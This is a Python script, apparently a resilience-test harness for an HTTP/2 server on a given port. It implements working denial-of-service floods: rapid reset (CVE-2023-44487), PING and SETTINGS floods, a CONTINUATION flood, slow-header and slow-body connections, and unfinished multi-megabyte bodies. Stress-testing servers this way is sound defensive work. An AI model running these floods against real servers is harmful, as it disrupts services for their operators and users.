"""Floods of HTTP/2, each by one attacker that goes on for a while.

    floods.py NAME PORT SECONDS     prints how often it did it
"""

import sys
import time

from h2 import (ACK, CALL, CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_BYTES, HEADERS,
                PING, PREFACE, RST_STREAM, SETTINGS, WINDOW, Connection, block, frame, literal,
                message)

CANCEL = b"\x00\x00\x00\x08"
INITIAL_WINDOW_SIZE = b"\x00\x04"  # among the settings
BATCH = 100  # frames in one write
SLOW_CONNECTIONS = 300
LARGE_CALLS, LARGE_BYTES = 200, 3 * 2**20  # 600 MB: what a test's machine may have to hold


def over_and_over(port, until, batches):
    """Sends what `batches()` yields, on a new connection whenever the server ends one."""
    done = 0
    while time.monotonic() < until:
        try:
            connection = Connection(port)
        except OSError:
            time.sleep(0.01)
            continue
        with connection:
            connection.socket.settimeout(1)
            for batch in batches():
                if time.monotonic() > until or not connection.send(batch):
                    break
                done += 1
                drop_answers(connection)
                if connection.closed:
                    break
    return done


def drop_answers(connection):
    connection.socket.setblocking(False)
    try:
        connection.closed = connection.closed or not connection.socket.recv(1 << 20)
    except BlockingIOError:
        pass
    except OSError:
        connection.closed = True
    connection.socket.settimeout(1)


def rapid_reset(port, until):
    """CVE-2023-44487: calls that are taken back as soon as they are made."""
    call = block(CALL)

    def batches():
        stream = 1
        while stream < 2**31 - 2 * BATCH:
            yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, call) +
                           frame(RST_STREAM, 0, number, CANCEL)
                           for number in range(stream, stream + 2 * BATCH, 2))
            stream += 2 * BATCH
    return over_and_over(port, until, batches)


def ping_flood(port, until):
    def batches():
        while True:
            yield frame(PING, 0, 0, b"12345678") * BATCH
    return over_and_over(port, until, batches)


def settings_flood(port, until):
    def batches():
        while True:
            yield frame(SETTINGS, 0, 0) * BATCH
    return over_and_over(port, until, batches)


def continuation_flood(port, until):
    """Headers without an end: each frame has its own, none has the flag."""
    part = literal(b"x-a", b"a" * 50) * 100

    def batches():
        yield frame(HEADERS, END_STREAM, 1, block(CALL))
        while True:
            yield frame(CONTINUATION, 0, 1, part)
    return over_and_over(port, until, batches)


def slow_headers(port, until):
    """Many connections that send a byte now and then and never a whole call."""
    whole = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, block(CALL))
    slow = [[Connection(port, b""), at % 60] for at in range(SLOW_CONNECTIONS)]
    for connection, at in slow:
        connection.send(whole[:at])
    while time.monotonic() < until:
        for one in slow:
            connection, at = one
            if connection.closed or at >= len(whole) - 1:
                one[:] = [Connection(port, b""), 0]
            else:
                connection.send(whole[at:at + 1])
                one[1] += 1
        time.sleep(0.1)
    return len(slow)


def slow_bodies(port, until):
    """Calls whose message never comes to its end."""
    begin = frame(HEADERS, END_HEADERS, 1, block(CALL))
    slow = [Connection(port) for _ in range(SLOW_CONNECTIONS)]
    for connection in slow:
        connection.send(begin)
        connection.send(frame(0, 0, 1, b"\x00\x00\x00\x10\x00"))
    while time.monotonic() < until:
        for connection in slow:
            connection.send(frame(0, 0, 1, b"x"))
        time.sleep(0.2)
    return len(slow)


class Windows:
    """How much a peer that plays by the rules may send: on a connection, and on each stream."""

    def __init__(self, connection):
        self.connection, self.first, self.opened = connection, 65_535, {}

    def of(self, stream):
        return self.opened.get(stream, 0) + (self.first if stream else 65_535)

    def spend(self, stream, size):
        for one in (0, stream):
            self.opened[one] = self.opened.get(one, 0) - size

    def listen(self, seconds):
        """Takes what the server says, until it says nothing for so long."""
        for kind, flags, stream, payload in self.connection.frames(seconds):
            if kind == WINDOW:
                self.opened[stream] = self.opened.get(stream, 0) + int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                for at in range(0, len(payload), 6):
                    if payload[at:at + 2] == INITIAL_WINDOW_SIZE:
                        self.first = int.from_bytes(payload[at + 2:at + 6], "big")
                self.connection.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.connection.send(frame(PING, ACK, 0, payload))


def large_bodies(port, until):
    """Calls on one connection whose messages of megabytes lack their last byte, sent as fast as the
    server takes them."""
    begun = message(b"\0" * LARGE_BYTES)[:-1]
    sent = {stream: 0 for stream in range(1, 2 * LARGE_CALLS, 2)}
    with Connection(port, acknowledge=False) as connection:
        windows = Windows(connection)
        windows.listen(0.3)
        for stream in sent:
            connection.send(frame(HEADERS, END_HEADERS, stream, block(CALL)))
        while time.monotonic() < until and not connection.closed:
            for stream, at in sent.items():
                room = min(windows.of(0), windows.of(stream), FRAME_BYTES)
                part = begun[at:at + max(room, 0)]
                if part and connection.send(frame(DATA, 0, stream, part)):
                    windows.spend(stream, len(part))
                    sent[stream] += len(part)
            windows.listen(0.005)
    return sum(sent.values())


FLOODS = {flood.__name__: flood for flood in (
    rapid_reset, ping_flood, settings_flood, continuation_flood, slow_headers, slow_bodies,
    large_bodies)}

if __name__ == "__main__":
    name, port_text, seconds = sys.argv[1:]
    print(FLOODS[name](int(port_text), time.monotonic() + float(seconds)))
